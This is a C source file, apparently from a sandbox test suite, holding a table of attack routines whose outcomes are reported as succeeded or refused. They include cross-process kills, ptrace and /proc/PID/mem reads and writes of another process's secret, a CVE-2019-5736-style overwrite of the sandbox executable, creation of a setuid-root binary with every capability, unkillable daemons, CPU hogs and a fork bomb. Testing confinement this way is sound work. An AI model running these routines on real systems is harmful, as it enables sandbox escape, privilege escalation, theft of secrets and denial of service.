// Attacks on other processes, and processes that will not end.
#include "attacks.h"

#include <dirent.h>
#include <limits.h>
#include <linux/capability.h>
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>

static char secret[256];

static void nap(long milliseconds) {
    struct timespec time = {milliseconds / 1000, milliseconds % 1000 * 1000000};
    nanosleep(&time, NULL);
}

// `victim SECRET`: no attack, but what is attacked: it holds a secret in memory, and waits.
static void victim(char **arguments) {
    strncpy(secret, arguments[0], sizeof secret - 1);
    attacks_started("%d %p", getpid(), (void *)secret);
    for (;;)
        pause();
}

static void kill_all(char **arguments) {
    if (arguments[0] != NULL) {  // bare, in a pid namespace of its own: somebody to be hit
        pid_t pid = fork();
        if (pid == 0)
            for (;;)
                pause();
        if (kill(-1, SIGKILL) < 0)
            return attacks_refused("kill");
        int status;
        if (waitpid(pid, &status, 0) == pid && WIFSIGNALED(status))
            attacks_succeeded("kill(-1) killed a process");
    }
    if (kill(-1, SIGKILL) == 0)
        attacks_succeeded("kill(-1) reached somebody");
    attacks_refused("kill");
}

// `signal PID…`: by every call there is.
static void send_signal(char **arguments) {
    for (; *arguments != NULL; arguments++) {
        pid_t pid = (pid_t)atoi(*arguments);
        if (kill(pid, SIGKILL) == 0)
            attacks_succeeded("kill reached %d", pid);
        attacks_refused("kill");
        if (syscall(SYS_tgkill, pid, pid, SIGKILL) == 0)
            attacks_succeeded("tgkill reached %d", pid);
        attacks_refused("tgkill");
        siginfo_t information = {.si_signo = SIGKILL, .si_code = SI_QUEUE};
        if (syscall(SYS_rt_sigqueueinfo, pid, SIGKILL, &information) == 0)
            attacks_succeeded("rt_sigqueueinfo reached %d", pid);
        attacks_refused("rt_sigqueueinfo");
        int descriptor = (int)syscall(SYS_pidfd_open, pid, 0);
        if (descriptor >= 0 && syscall(SYS_pidfd_send_signal, descriptor, SIGKILL, NULL, 0) == 0)
            attacks_succeeded("pidfd_send_signal reached %d", pid);
        attacks_refused("pidfd");
    }
}

static unsigned long address_of(const char *text) { return strtoul(text, NULL, 16); }

static void trace(char **arguments) {
    pid_t pid = (pid_t)atoi(arguments[0]);
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0)
        attacks_succeeded("ptrace seized %d", pid);
    attacks_refused("PTRACE_SEIZE");
    if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) == 0)
        attacks_succeeded("ptrace attached to %d", pid);
    attacks_refused("PTRACE_ATTACH");
}

static void read_memory(char **arguments) {
    pid_t pid = (pid_t)atoi(arguments[0]);
    char text[64] = "", path[64];
    struct iovec mine = {text, 16}, theirs = {(void *)address_of(arguments[1]), 16};
    if (syscall(SYS_process_vm_readv, pid, &mine, 1, &theirs, 1, 0) > 0)
        attacks_succeeded("process_vm_readv read %s", text);
    attacks_refused("process_vm_readv");
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int memory = open(path, O_RDONLY | O_CLOEXEC);
    if (memory >= 0 && pread(memory, text, 16, (off_t)address_of(arguments[1])) > 0)
        attacks_succeeded("%s gave %s", path, text);
    attacks_refused("/proc/PID/mem");
}

static void write_memory(char **arguments) {
    pid_t pid = (pid_t)atoi(arguments[0]);
    char text[8] = "changed", path[64];
    struct iovec mine = {text, 8}, theirs = {(void *)address_of(arguments[1]), 8};
    if (syscall(SYS_process_vm_writev, pid, &mine, 1, &theirs, 1, 0) > 0)
        attacks_succeeded("process_vm_writev");
    attacks_refused("process_vm_writev");
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int memory = open(path, O_WRONLY | O_CLOEXEC);
    if (memory >= 0 && pwrite(memory, text, 8, (off_t)address_of(arguments[1])) > 0)
        attacks_succeeded("%s was written", path);
    attacks_refused("/proc/PID/mem");
    int descriptor = (int)syscall(SYS_pidfd_open, pid, 0);
    if (descriptor >= 0) {
        if (syscall(SYS_pidfd_getfd, descriptor, 0, 0) >= 0)
            attacks_succeeded("pidfd_getfd");
        attacks_refused("pidfd_getfd");
    }
}

// `environ NEEDLE`: searches what /proc tells of every process, PID 1 before all.
static void environments(char **arguments) {
    static const char *const files[] = {"environ", "cmdline", "auxv", "maps", "mountinfo"};
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while (proc != NULL && (entry = readdir(proc)) != NULL) {
        int pid = atoi(entry->d_name);
        if (pid <= 0 || pid == getpid())
            continue;
        for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
            static char text[1 << 16];
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
            int length = attacks_read_at(AT_FDCWD, path, text, sizeof text);
            if (length < 0) {
                if (pid == 1)
                    attacks_refused(files[i]);
                continue;
            }
            if (memmem(text, (size_t)length, arguments[0], strlen(arguments[0])) != NULL)
                attacks_succeeded("%s holds it", path);
        }
    }
    errno = ENODATA;
    attacks_refused("every process");
}

// --- the program that the sandbox itself is (CVE-2019-5736) ---

// `exe-overwrite NAME SECONDS`: opens the executable of any process called NAME that is not its own, waits until nobody executes
// it, and overwrites it through /proc/self/fd.
static void overwrite_executable(char **arguments) {
    time_t end = time(NULL) + atoi(arguments[1]);
    int seen = 0;
    do {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc != NULL && (entry = readdir(proc)) != NULL) {
            char path[64], target[PATH_MAX] = "";
            int pid = atoi(entry->d_name);
            if (pid <= 0 || pid == getpid())
                continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            if (readlink(path, target, sizeof target - 1) < 0 || strstr(target, arguments[0]) == NULL)
                continue;
            int held = open(path, O_RDONLY | O_CLOEXEC);
            if (held < 0)
                continue;
            seen = 1;
            if (arguments[2] == NULL)
                kill(pid, SIGKILL);  // a child it may end; live's would go by itself
            snprintf(path, sizeof path, "/proc/self/fd/%d", held);
            for (int i = 0; i < 100; i++) {
                int file = open(path, O_WRONLY | O_CLOEXEC);
                if (file >= 0 && write(file, "#!/bin/evil\n", 12) == 12)
                    attacks_succeeded("overwrote %s", target);
                if (file >= 0 || errno != ETXTBSY)
                    break;
                nap(20);
            }
            attacks_refused("the executable to write");
            close(held);
            attacks_over();
        }
        if (proc != NULL)
            closedir(proc);
        nap(1);
    } while (time(NULL) < end);
    errno = seen ? EACCES : ESRCH;
    attacks_refused("an executable to read");
}

// --- programs with rights of their own ---

// `setuid-make FILE`: makes itself a setuid-root program with every file capability.
static void make_setuid(char **arguments) {
    static char buffer[1 << 16];
    int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    int to = open(arguments[0], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    ssize_t length = 0;
    if (from < 0 || to < 0)
        return attacks_refused("the file");
    while ((length = read(from, buffer, sizeof buffer)) > 0)
        if (write(to, buffer, (size_t)length) != length)
            return attacks_refused("write");
    close(to);
    if (chown(arguments[0], 0, 0) < 0)
        attacks_refused("chown");
    // Without the effective flag: with it the kernel refuses to execute where the bounding set lacks one of them.
    struct vfs_cap_data capabilities = {
        .magic_etc = VFS_CAP_REVISION_2, .data = {{~0U, 0}, {0xff, 0}}};
    if (setxattr(arguments[0], "security.capability", &capabilities, sizeof capabilities, 0) < 0)
        attacks_refused("security.capability");
    if (chmod(arguments[0], 06755) < 0)
        return attacks_refused("chmod");
    attacks_succeeded("%s", arguments[0]);
}

// `rights`: whether it has become more than the user that started it.
static void rights(char **arguments) {
    struct __user_cap_header_struct header = {.version = _LINUX_CAPABILITY_VERSION_3};
    struct __user_cap_data_struct data[2] = {0};
    syscall(SYS_capget, &header, data);
    if (geteuid() == 0 || (data[0].permitted | data[1].permitted) != 0)
        attacks_succeeded("euid %u capabilities %x%08x", geteuid(), data[1].permitted, data[0].permitted);
    errno = EPERM;
    attacks_refused("more rights");
}

// --- processes that will not end ---

static void ignore_everything(void) {
    for (int number = 1; number < 65; number++)
        signal(number, SIG_IGN);
}

static pid_t daemonize(void) {
    int report[2];
    if (pipe(report) < 0)
        return -1;
    pid_t pid = fork();
    if (pid < 0)
        return -1;
    if (pid == 0) {
        setsid();
        pid = fork();
        if (pid != 0)
            _exit(0);
        setsid();
        ignore_everything();
        pid = getpid();
        if (write(report[1], &pid, sizeof pid) != sizeof pid)
            _exit(1);
        for (int i = 0; i < 1024; i++)
            close(i);
        return 0;
    }
    waitpid(pid, NULL, 0);
    return read(report[0], &pid, sizeof pid) == sizeof pid ? pid : -1;
}

static void daemon_process(char **arguments) {
    pid_t pid = daemonize();
    if (pid < 0)
        return attacks_refused("fork");
    if (pid > 0)
        attacks_succeeded("%d", pid);
    prctl(PR_SET_NAME, "grace-attack", 0, 0, 0);
    for (;;)
        pause();
}

// `daemon-writer FILE`: a daemon that counts in a file, by write and through a shared mapping.
static void daemon_writer(char **arguments) {
    int file = open(arguments[0], O_RDWR | O_CREAT | O_CLOEXEC, 0666);
    uint64_t *map = MAP_FAILED;
    if (file >= 0 && ftruncate(file, 4096) == 0)
        map = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    if (map == MAP_FAILED)
        return attacks_refused("the file");
    pid_t pid = daemonize();
    if (pid < 0)
        return attacks_refused("fork");
    if (pid > 0)
        attacks_succeeded("%d", pid);
    file = open(arguments[0], O_RDWR | O_CLOEXEC);
    for (uint64_t count = 1;; count++) {
        if (pwrite(file, &count, sizeof count, 0) < 0)
            _exit(1);
        map[1] = count;
        nap(1);
    }
}

// `hog`: takes every processor it can get and ignores every signal it can.
static void hog(char **arguments) {
    ignore_everything();
    for (int i = 0; i < 3; i++)
        if (fork() == 0)
            break;
    if (getpid() != 1 && arguments[0] != NULL)
        prctl(PR_SET_PDEATHSIG, SIGKILL);
    attacks_started("%d", getpid());
    for (volatile unsigned long i = 0;; i++) {
    }
}

// `fork-bomb COUNT`: success is so many children at once.
static void fork_bomb(char **arguments) {
    int wanted = atoi(arguments[0]);
    for (int made = 0; made < wanted; made++) {
        pid_t pid = fork();
        if (pid == 0) {
            ignore_everything();
            for (;;)
                pause();
        }
        if (pid < 0) {
            char step[32];
            snprintf(step, sizeof step, "fork %d", made);
            return attacks_refused(step);
        }
    }
    attacks_succeeded("%d processes", wanted);
}

const struct attack attacks_processes[] = {
    {"victim", 1, victim}, {"kill-all", 0, kill_all}, {"signal", 1, send_signal}, {"ptrace", 2, trace},
    {"read-memory", 2, read_memory}, {"write-memory", 2, write_memory}, {"environ", 1, environments},
    {"exe-overwrite", 2, overwrite_executable}, {"setuid-make", 1, make_setuid}, {"rights", 0, rights},
    {"daemon", 0, daemon_process}, {"daemon-writer", 1, daemon_writer}, {"hog", 0, hog}, {"fork-bomb", 1, fork_bomb},
    {NULL, 0, NULL},
};
